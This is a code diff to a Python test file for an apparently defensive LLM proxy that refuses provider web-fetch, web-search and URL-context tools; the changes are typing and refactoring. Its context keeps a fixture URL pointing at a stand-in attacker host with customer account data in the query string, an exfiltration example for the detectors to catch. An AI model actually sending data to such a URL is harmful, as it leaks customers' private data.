@@ -13,6 +13,7 @@ import anthropic
 import openai
 import pytest
 from anthropic.types.beta import BetaWebFetchTool20250910Param
+from openai.types.chat import ChatCompletionMessageParam
 
 from proxy.detectors.tools import PROVIDER_FETCH_RULE, fetch_findings
 from proxy.dialects import Anthropic, Gemini, OpenAIChat, OpenAIResponses
@@ -25,7 +26,8 @@ from tests.upstream import FakeUpstream, Reply
 
 OUTSIDE = "https://attacker.example/c?d=customer-row-jane-doe-acct-99812"
 PNG = "data:image/png;base64,iVBORw0KGgo="
-ASK_CHAT = [{"role": "user", "content": "what changed in the release?"}]
+QUESTION = "what changed in the release?"
+ASK_CHAT: list[ChatCompletionMessageParam] = [{"role": "user", "content": QUESTION}]
 
 
 @pytest.fixture
@@ -322,7 +324,7 @@ def test_web_search_without_a_domain_filter_is_refused_and_one_within_the_allowl
         anthropic_client(upstream).messages.create(
             model="m",
             max_tokens=10,
-            messages=ASK_CHAT,
+            messages=[{"role": "user", "content": QUESTION}],
             tools=[{"type": "web_search_20250305", "name": "web_search"}],
         )
     assert upstream.received == []
@@ -349,12 +351,16 @@ def test_gemini_search_and_url_context_are_refused_and_function_tools_pass(
     from google.genai import types
 
     client = gemini_client(upstream)
-    browsing = [types.Tool(url_context=types.UrlContext()), types.Tool(google_search=types.GoogleSearch())]
     with pytest.raises(genai.errors.ClientError) as refused:
         client.models.generate_content(
             model="gemini-2.5-flash",
             contents="summarise https://docs.example/changelog",
-            config=types.GenerateContentConfig(tools=browsing),
+            config=types.GenerateContentConfig(
+                tools=[
+                    types.Tool(url_context=types.UrlContext()),
+                    types.Tool(google_search=types.GoogleSearch()),
+                ]
+            ),
         )
     assert refused.value.code == 403
     assert upstream.received == []
